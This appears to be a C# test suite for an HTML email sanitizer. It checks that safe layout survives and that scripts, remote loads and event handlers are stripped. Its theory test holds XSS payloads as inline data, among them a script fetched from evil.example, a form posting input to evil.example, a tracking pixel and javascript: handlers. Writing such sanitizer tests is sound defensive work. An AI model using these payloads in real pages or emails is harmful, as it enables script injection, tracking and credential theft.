using CsCheck;
using MimeKit.Text;

namespace Reprieve.Notices.Tests.Reading;

public sealed class MailPageTests
{
    [Fact]
    public void Words_and_layout_stay()
    {
        string page = MailPage.Harmless(
            "<table width=\"600\"><tr><td align=center style=\"color:red\">Hello <b>you</b></td></tr></table>"
        );

        page.ShouldBe(
            "<table width=\"600\"><tr><td align=\"center\" style=\"color:red\">Hello <b>you</b></td></tr></table>"
        );
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("<style>@import url(http://evil.example)</style>")]
    [InlineData("<iframe src=\"http://evil.example\">x</iframe>")]
    [InlineData("<img src=\"http://evil.example/pixel.gif\">")]
    [InlineData("<link rel=stylesheet href=http://evil.example>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=http://evil.example\">")]
    [InlineData("<base href=http://evil.example>")]
    [InlineData("<form action=http://evil.example><input name=p><button>Go</button></form>")]
    [InlineData("<svg onload=alert(1)><a href=javascript:alert(1)>x</a></svg>")]
    [InlineData("<p onclick=\"alert(1)\" background=\"http://evil.example\">x</p>")]
    [InlineData("<!--[if IE]><script>alert(1)</script><![endif]-->")]
    [InlineData("<!-- http://evil.example -->")]
    public void What_could_run_or_ask_for_something_goes(string evil)
    {
        string page = MailPage.Harmless($"<p>before</p>{evil}<p>after</p>");

        page.ShouldStartWith("<p>before</p>");
        page.ShouldEndWith("<p>after</p>");
        page.ShouldNotContain("evil");
        page.ShouldNotContain("alert");
        page.ShouldNotContain("<input");
    }

    [Fact]
    public void A_link_keeps_its_words_and_loses_its_target() =>
        MailPage
            .Harmless("Go to <a href=\"http://evil.example\">your account</a> now")
            .ShouldBe("Go to your account now");

    [Fact]
    public void Whatever_comes_in_only_harmless_elements_come_out()
    {
        string[] pieces =
        [
            "<",
            ">",
            "</",
            "/>",
            "\"",
            "'",
            "=",
            " ",
            "a",
            "b",
            "p",
            "div",
            "script",
            "img",
            "style",
            "svg",
            "iframe",
            "onload",
            "src",
            "href",
            "javascript:",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "&lt;",
            "&#60;",
            "\0",
            "table",
            "td",
        ];
        Gen.Int[0, pieces.Length - 1]
            .Array[0, 40]
            .Sample(
                parts =>
                {
                    string page = MailPage.Harmless(string.Concat(parts.Select(part => pieces[part])));
                    var tokens = new HtmlTokenizer(new StringReader(page));
                    while (tokens.ReadNextToken(out HtmlToken? token))
                    {
                        if (token is HtmlTagToken tag)
                        {
                            tag.Name.ShouldBeOneOf("b", "p", "div", "table", "td");
                            tag.Attributes.ShouldAllBe(attribute => attribute.Name == "style");
                        }
                    }
                },
                iter: 20_000
            );
    }

    [Fact]
    public void A_text_file_has_no_page()
    {
        string file = Path.GetTempFileName();
        try
        {
            File.WriteAllText(file, "Hello, your account is blocked.");

            MailPage.Of(file).ShouldBeNull();
        }
        finally
        {
            File.Delete(file);
        }
    }
}
